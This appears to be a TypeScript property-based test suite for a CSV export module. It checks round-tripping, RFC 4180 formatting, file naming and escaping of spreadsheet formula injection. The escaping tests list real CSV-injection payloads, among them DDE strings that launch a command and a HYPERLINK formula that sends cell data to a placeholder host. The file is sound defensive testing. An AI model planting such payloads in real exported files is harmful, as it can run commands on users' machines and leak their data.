import * as fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvFileName, type CsvColumn, csvParts } from './csv.ts';
import { CSV_BOM, csvText } from '@sereno/domain/csv';

/** What a spreadsheet reads as the start of a formula (TBL-18). */
const TRIGGER = /^[=+\-@\t\r\n]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)$/;

const write = <Row>(rows: readonly Row[], columns: readonly CsvColumn<Row>[], rowsPerPart = 7) =>
  [...csvParts(rows, columns, rowsPerPart)].join('');
const read = (file: string) => Papa.parse<string[]>(file, { delimiter: ',', newline: '\r\n' }).data.slice(0, -1);
const unguarded = (text: string) =>
  /^'[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹢﹣﹦﹫\t\r\n]/u.test(text) ? text.slice(1) : text;

const awkward = fc.oneof(
  fc.constantFrom('"', "'", ',', ';', '\r', '\n', '\r\n', '\t', '\0', ' ', '=', '+', '-', '@', '＝', '\u200B', CSV_BOM),
  fc.constantFrom('😀', '👩🏽‍💼', 'שלום', '\u202E', 'é', '1', '.', 'e', 'A'),
);
const text = fc
  .oneof(
    {
      weight: 8,
      arbitrary: fc.string({ unit: fc.oneof(awkward, fc.string({ unit: 'binary', maxLength: 1 })), maxLength: 12 }),
    },
    { weight: 1, arbitrary: fc.tuple(awkward, awkward).map(([one, other]) => one + `${other} `.repeat(8_000)) },
  )
  // An apostrophe of the text's own before a trigger is indistinguishable from the guard's.
  .filter((value) => unguarded(value) === value);
const texts = fc
  .integer({ min: 1, max: 6 })
  .chain((columns) =>
    fc.array(fc.array(text, { minLength: columns, maxLength: columns }), { minLength: 1, maxLength: 8 }),
  );

/** Text columns whose titles are the first row. */
const textColumns = (titles: readonly string[]): CsvColumn<readonly string[]>[] =>
  titles.map((title, place) => ({ title, kind: 'text', value: () => null, text: (row) => row[place] ?? '' }));

describe('a CSV file', () => {
  it('TBL-16 TBL-17 TBL-18 round-trips every text, one line per row, and no cell is a formula', () => {
    fc.assert(
      fc.property(texts, ([titles = [], ...rows]) => {
        const file = write(rows, textColumns(titles), 3);
        expect(file.startsWith(CSV_BOM)).toBe(true);
        const cells = read(file);
        expect(cells.map((row) => row.map(unguarded))).toEqual([titles, ...rows]);
        expect(cells.flat().filter((cell) => TRIGGER.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it('TBL-17 starts with the byte order mark and ends each line by RFC 4180', () => {
    expect(write([['Ana', 'México, D. F.']], textColumns(['Nombre', 'Lugar']))).toBe(
      '\uFEFFNombre,Lugar\r\nAna,"México, D. F."\r\n',
    );
    expect(write([], textColumns(['Nombre']))).toBe('\uFEFFNombre\r\n');
  });

  it('TBL-18 is the same in parts of any size', () => {
    fc.assert(
      fc.property(texts, fc.integer({ min: 1, max: 9 }), ([titles = [], ...rows], size) => {
        expect(write(rows, textColumns(titles), size)).toBe(write(rows, textColumns(titles), 1000));
      }),
    );
  });
});

describe('a text that a spreadsheet would execute', () => {
  it.each([
    '=1+1',
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.com?x="&A1,"Ver")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+52 55 1234 5678',
    '-$1,234.50',
    '-',
    '--1',
    '+1e3',
    '\t=1+1',
    '\ttexto',
    '\rtexto',
    '\n=1+1',
    '  =1+1',
    '\u00A0=1+1',
    '\u3000@x',
    '\u200B=1+1',
    '\u202E=1+1',
    '\0=1+1',
    '\uFEFF=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '﹦1',
  ])('TBL-18 is escaped: %j', (attack) => {
    expect(csvText(attack).replace(/^"/, '')).toMatch(/^'/);
    expect(read(write([], textColumns([attack])))[0]).toEqual([`'${attack}`]);
  });

  it.each(['-5', '+5', '-0.5', '-.5', '5.', '+525512345678', 'a=1', '1-1', "'=1", 'Ñ-1', '¿=?', ''])(
    'TBL-18 is not: %j',
    (harmless) => {
      expect(csvText(harmless)).toBe(harmless);
    },
  );
});

describe('the file name', () => {
  it.each([
    ['Ventas de la semana 46', 'Ventas de la semana 46.csv'],
    ['Ventas 1/2: "enero"', 'Ventas 1_2_ _enero_.csv'],
    ['', 'tabla.csv'],
    ['...', 'tabla.csv'],
    ['con', '_con.csv'],
  ])('TBL-15 of %j is %j', (title, name) => {
    expect(csvFileName(title)).toBe(name);
  });
});
